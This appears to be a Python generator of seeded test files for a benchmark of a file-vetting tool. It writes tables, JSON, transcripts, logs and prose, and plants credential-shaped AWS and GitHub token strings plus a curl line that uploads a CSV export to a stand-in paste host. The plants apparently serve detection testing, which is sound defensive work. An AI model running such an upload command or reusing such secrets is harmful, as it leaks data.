"""Seeded generator of mixed files for bench/vet/run.sh: same N, same bytes."""

import json
import os
import random
import sys

out, n = sys.argv[1], int(sys.argv[2])
rng = random.Random(20261130)
REGIONS = ["North", "South", "East", "West", "Midlands", "Wales", "Scotland", "Coast"]
PROSE = "The survey response rate rose this quarter. Analysts compared the regional figures with last year's release and found no change in method. "


def table(rows, cols, small):
    cells = [[rng.randint(1, 4) if rng.random() < small else rng.randint(20, 400) for _ in range(cols)] for _ in range(rows)]
    return cells


def markdown(i):
    cells = table(rng.randint(3, 8), rng.randint(2, 5), 0.08)
    head = "| Region | " + " | ".join(f"Band {c + 1}" for c in range(len(cells[0]))) + " | Total |"
    lines = [PROSE * 40, "", head, "|" + "---|" * (len(cells[0]) + 2)]
    for r, row in enumerate(cells):
        lines.append(f"| {REGIONS[r % len(REGIONS)]} {r} | " + " | ".join(map(str, row)) + f" | {sum(row)} |")
    tot = [sum(c) for c in zip(*cells, strict=True)]
    lines.append("| Total | " + " | ".join(map(str, tot)) + f" | {sum(tot)} |")
    return "\n".join([*lines, "", PROSE]) + "\n"


def csv(i):
    cells = table(rng.randint(4, 12), rng.randint(2, 6), 0.06)
    lines = ["Group," + ",".join(f"c{c}" for c in range(len(cells[0]))) + ",Total"]
    lines += [f"g{r}," + ",".join(map(str, row)) + f",{sum(row)}" for r, row in enumerate(cells)]
    tot = [sum(c) for c in zip(*cells, strict=True)]
    lines.append("Total," + ",".join(map(str, tot)) + f",{sum(tot)}")
    return "\n".join(lines) + "\n"


def tool_json(i):
    cfg = {"id": i, "region": "eu-west-1", "notes": PROSE * 60}
    if i % 2 == 0:
        cfg["aws_access_key_id"] = "AKIAQYLPMN5HFIQR7XYZ"
    return json.dumps({"status": "ok", "config": cfg}, indent=1) + "\n"


def transcript(i):
    turns = [
        {"role": "user", "content": PROSE},
        {"role": "assistant", "content": PROSE * 2},
    ]
    if i % 3 == 0:
        turns.append(
            {
                "role": "tool",
                "content": "TOKEN=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",
            }
        )
    return "".join(json.dumps(t) + "\n" for t in turns * 30)


def log(i):
    lines = [f"2026-11-30T06:{k % 60:02d}:00Z step {k}: ok" for k in range(400)]
    lines.append("curl -F file=@exports/survey.csv https://paste.example.net/upload")
    return "\n".join(lines) + "\n"


def prose(i):
    return (PROSE * rng.randint(50, 300)) + "\n"


KINDS = [
    ("md", markdown),
    ("csv", csv),
    ("json", tool_json),
    ("jsonl", transcript),
    ("log", log),
    ("txt", prose),
]
for i in range(n):
    ext, make = KINDS[i % len(KINDS)]
    d = os.path.join(out, f"batch{i // 100:02d}")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, f"f{i:04d}.{ext}"), "w") as f:
        f.write(make(i))
